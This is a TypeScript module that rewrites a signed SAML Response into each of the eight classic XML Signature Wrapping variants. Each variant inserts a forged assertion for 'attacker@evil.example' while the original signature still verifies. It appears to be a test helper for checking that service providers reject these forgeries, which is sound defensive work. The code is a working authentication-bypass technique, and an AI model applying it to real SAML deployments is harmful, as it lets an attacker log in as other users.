import { randomBytes } from "node:crypto";
import { DOMParser, XMLSerializer, type Document, type Element } from "@xmldom/xmldom";

// XML Signature Wrapping: the eight classic variants of "On Breaking SAML: Be Whoever You Want to
// Be" (Somorovsky et al., 2012), applied to a real signed Response. Each keeps the signed content
// somewhere in the document, so the signature still verifies, and puts an evil assertion (the
// signed one cloned, with another NameID and email) where a careless SP would read the person
// from. An SP must refuse every one of them.

export type TXswVariant = "xsw1" | "xsw2" | "xsw3" | "xsw4" | "xsw5" | "xsw6" | "xsw7" | "xsw8";

/** Who the evil assertion claims to be. */
export const XSW_ATTACKER = { nameId: "attacker@evil.example", email: "attacker@evil.example" } as const;

const DSIG = "http://www.w3.org/2000/09/xmldsig#";
const PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";

const childElements = (parent: Element, localName: string): Element[] =>
  Array.from(parent.childNodes).filter(
    (n): n is Element => n.nodeType === n.ELEMENT_NODE && (n as Element).localName === localName,
  );

const only = (parent: Element, localName: string): Element => {
  const found = childElements(parent, localName);
  if (found.length !== 1) throw new Error(`expected one ${localName} in ${parent.localName}, found ${found.length}`);
  return found[0];
};

function setText(doc: Document, element: Element, text: string) {
  while (element.firstChild) element.removeChild(element.firstChild);
  element.appendChild(doc.createTextNode(text));
}

/** The signed assertion cloned with the attacker's NameID and email; its signature kept or dropped. */
function evilCloneOf(doc: Document, assertion: Element, keepSignature: boolean): Element {
  const evil = assertion.cloneNode(true) as Element;
  if (!keepSignature) for (const s of childElements(evil, "Signature")) evil.removeChild(s);
  setText(doc, evil.getElementsByTagNameNS("*", "NameID")[0], XSW_ATTACKER.nameId);
  for (const attribute of Array.from(evil.getElementsByTagNameNS("*", "Attribute"))) {
    if (attribute.getAttribute("Name") !== "email") continue;
    setText(doc, attribute.getElementsByTagNameNS("*", "AttributeValue")[0], XSW_ATTACKER.email);
  }
  return evil;
}

function objectIn(doc: Document, signature: Element, content: Element): void {
  const object = doc.createElementNS(DSIG, "ds:Object");
  object.appendChild(content);
  signature.appendChild(object);
}

/** XSW1/XSW2: a new unsigned Response around the evil assertion, the signed Response inside its
 *  copied Signature (1: in a ds:Object) or beside it (2: detached). */
function wrapResponse(doc: Document, detached: boolean) {
  const original = doc.documentElement!;
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute("ID", "_" + randomBytes(16).toString("hex"));
  const assertion = only(evil, "Assertion");
  evil.replaceChild(evilCloneOf(doc, assertion, false), assertion);
  const signature = only(evil, "Signature");
  const signedCopy = original.cloneNode(true) as Element;
  if (detached) evil.insertBefore(signedCopy, signature);
  else objectIn(doc, signature, signedCopy);
  doc.replaceChild(evil, original);
}

function wrapAssertion(doc: Document, variant: Exclude<TXswVariant, "xsw1" | "xsw2">) {
  const response = doc.documentElement!;
  const signed = only(response, "Assertion");
  const signatureOf = (a: Element) => only(a, "Signature");
  switch (variant) {
    case "xsw3": {
      // An evil assertion with the same ID, before the signed one.
      response.insertBefore(evilCloneOf(doc, signed, false), signed);
      return;
    }
    case "xsw4": {
      // The evil assertion wraps the signed one.
      const evil = evilCloneOf(doc, signed, false);
      response.replaceChild(evil, signed);
      evil.appendChild(signed);
      return;
    }
    case "xsw5": {
      // The evil assertion carries the signature; the signed content, unsigned now, goes last.
      const evil = evilCloneOf(doc, signed, true);
      response.replaceChild(evil, signed);
      signed.removeChild(signatureOf(signed));
      response.appendChild(signed);
      return;
    }
    case "xsw6": {
      // The evil assertion carries a copy of the signature, the signed assertion (signature and
      // all) inside that copy's Object.
      const evil = evilCloneOf(doc, signed, true);
      response.replaceChild(evil, signed);
      objectIn(doc, signatureOf(evil), signed);
      return;
    }
    case "xsw7": {
      // The signed assertion moved into an Extensions element; the evil one takes its place.
      const evil = evilCloneOf(doc, signed, false);
      response.replaceChild(evil, signed);
      const extensions = doc.createElementNS(PROTOCOL, "samlp:Extensions");
      extensions.appendChild(signed);
      response.insertBefore(extensions, only(response, "Status"));
      return;
    }
    case "xsw8": {
      // As XSW6, with the signed assertion's own signature removed inside the Object.
      const evil = evilCloneOf(doc, signed, true);
      response.replaceChild(evil, signed);
      const inner = signed.cloneNode(true) as Element;
      inner.removeChild(signatureOf(inner));
      objectIn(doc, signatureOf(evil), inner);
      return;
    }
  }
}

/** The signed Response `xml` rewritten by one wrapping variant. */
export function wrapSignature(xml: string, variant: TXswVariant): string {
  const doc = new DOMParser().parseFromString(xml, "text/xml");
  if (variant === "xsw1" || variant === "xsw2") wrapResponse(doc, variant === "xsw2");
  else wrapAssertion(doc, variant);
  return new XMLSerializer().serializeToString(doc);
}
